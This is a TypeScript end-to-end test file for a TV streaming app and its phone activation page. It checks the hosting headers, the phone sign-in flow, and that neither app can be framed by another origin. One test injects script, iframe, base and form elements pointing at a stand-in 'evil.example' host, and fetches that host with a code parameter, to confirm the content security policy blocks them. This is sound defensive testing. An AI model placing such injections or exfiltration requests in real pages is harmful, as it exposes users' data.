import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type Sandbox, startSandbox } from '../../apps/sandbox/index.ts';
import { framedTexts } from '../../apps/tv/texts/framed.ts';
import { hostingFiles } from '../../tools/hosting.ts';
import { dist } from '../../tools/paths.ts';
import { launchBrowser } from '../support/browser.ts';
import { Phone } from '../support/Phone.ts';
import { Remote } from '../support/Remote.ts';
import { shippedSettings } from '../support/testEnv.ts';
import { headersIn, hostOf } from './foreign/host.ts';
import { somebodysPage } from './foreign/servers.ts';

interface RawSettings {
  appSettings: { pass: Record<string, string> };
}

let browser: Browser;
let sandbox: Sandbox;
let settings: RawSettings;
const closing: (() => Promise<unknown>)[] = [];

beforeAll(async () => {
  browser = await launchBrowser(['--host-resolver-rules=MAP *.example 127.0.0.1']);
  sandbox = await startSandbox({ quiet: true, throttle: false });
  settings = (await shippedSettings()) as RawSettings;
  settings.appSettings.pass.baseUrl = sandbox.url;
});
afterAll(async () => {
  await browser?.close();
  await sandbox?.close();
});
afterEach(async () => {
  for (const close of closing.splice(0).reverse()) await close();
});

const headersOf = (app: 'tv' | 'activate') => headersIn(hostingFiles(settings, app)._headers ?? '');

/** The address of an app at a host that sends these headers. */
async function hosted(app: 'tv' | 'activate', headers: Record<string, string>): Promise<string> {
  const host = await hostOf(app, headers, settings);
  closing.push(host.close);
  return `http://127.0.0.1:${host.port}/`;
}

/** A page, and the requests that its policies have refused. */
async function newPage(): Promise<{ page: Page; refused: string[] }> {
  const context = await browser.newContext({
    viewport: { width: 1280, height: 720 },
    locale: 'en-US',
  });
  closing.push(() => context.close());
  const page = await context.newPage();
  const refused: string[] = [];
  page.on('console', (message) => {
    if (/Refused to|violates the following/.test(message.text())) refused.push(message.text());
  });
  return { page, refused };
}

/** A page of another origin that shows `address` in a frame. */
async function framing(address: string, page: Page): Promise<void> {
  const somebody = await somebodysPage();
  closing.push(somebody.close);
  await page.goto(`http://evil.example:${somebody.port}/`);
  await page.setContent(`<iframe src="${address}" width="1280" height="720"></iframe>`);
}

describe('what the build writes for hosts', () => {
  it.each(['tv', 'activate'] as const)('is what the settings of dist/%s need', async (app) => {
    const own = await shippedSettings();
    for (const [name, text] of Object.entries(hostingFiles(own, app)))
      expect(await readFile(join(dist, 'hosting', app, name), 'utf8')).toBe(text);
  });

  it('lets a viewer sign in by phone and watch, and refuses nothing that is needed', async () => {
    const [tvUrl, activateUrl] = [
      await hosted('tv', headersOf('tv')),
      await hosted('activate', headersOf('activate')),
    ];
    const { page, refused } = await newPage();
    await page.goto(tvUrl);
    const tv = new Remote(page);
    await tv.on('home');
    await tv.play('row-0-item-0');
    await tv.on('signIn');
    await tv.says('code', /^[A-Z0-9]{7}$/);
    const phone = await newPage();
    await phone.page.goto(activateUrl);
    await new Phone(phone.page).signIn(await tv.text('code'), 'Harbor TV', 'alex');
    await tv.on('player');
    await tv.videoPlays(0.5);
    expect([...refused, ...phone.refused]).toEqual([]);
  });

  it.each(['tv', 'activate'] as const)('keeps dist/%s out of the frames of others', async (app) => {
    const address = await hosted(app, headersOf(app));
    const { page } = await newPage();
    sandbox.control.clearRequests();
    const refusal = page.waitForEvent('console', (message) =>
      /frame-ancestors/.test(message.text()),
    );
    await framing(address, page);
    await refusal;
    const [, frame] = page.frames();
    expect(await frame?.evaluate(() => document.body.textContent)).not.toMatch(/Couchpass|Connect/);
    expect(sandbox.control.requests()).toEqual([]);
  });
});

describe('at a host that sends no headers', () => {
  it.each(['tv', 'activate'] as const)(
    'the page of dist/%s runs and asks nothing foreign',
    async (app) => {
      const address = await hosted(app, {});
      const { page } = await newPage();
      await page.goto(address);
      await page.waitForLoadState('networkidle');
      await page.evaluate(() => {
        const told: string[] = [];
        Object.assign(window, { told });
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          told.push(effectiveDirective),
        );
        const add = (tag: string, properties: object) => {
          try {
            document.body.append(Object.assign(document.createElement(tag), properties));
          } catch (error) {
            // Thrown where a policy allows only trusted scripts.
            told.push((error as Error).name);
          }
        };
        add('script', { textContent: 'document.title = "taken"' });
        add('script', { src: 'https://evil.example/x.js' });
        add('iframe', { src: 'https://evil.example/' });
        add('base', { href: 'https://evil.example/' });
        add('form', { action: 'https://evil.example/' });
        for (const form of document.forms) form.submit();
        fetch('http://evil.example/?code=1').catch(() => {});
      });
      const expected = ['frame-src', 'base-uri', 'form-action', 'connect-src'];
      const told = () => page.evaluate(() => window.told ?? []);
      await expect
        .poll(told, { timeout: 20_000 })
        .toEqual(expect.arrayContaining([...expected, expect.stringMatching(/script|TypeError/)]));
      expect(await page.title()).not.toBe('taken');
      expect(await page.evaluate(() => document.baseURI)).toBe(address);
      expect(page.url()).toBe(address);
    },
  );

  it.each(['en', 'es', 'fr', 'nl'] as const)(
    'the TV app shows itself in no frame: %s',
    async (locale) => {
      const address = await hosted('tv', {});
      const context = await browser.newContext({ viewport: { width: 1280, height: 720 }, locale });
      closing.push(() => context.close());
      const page = await context.newPage();
      sandbox.control.clearRequests();
      await framing(address, page);
      const frame = page.frameLocator('iframe');
      await frame.getByText(framedTexts[locale].title).waitFor();
      const { title, body } = framedTexts[locale];
      expect(await frame.locator('main').textContent()).toBe(title + body);
      expect(await frame.locator('canvas, video, button, a').count()).toBe(0);
      expect(sandbox.control.requests()).toEqual([]);
    },
  );
});
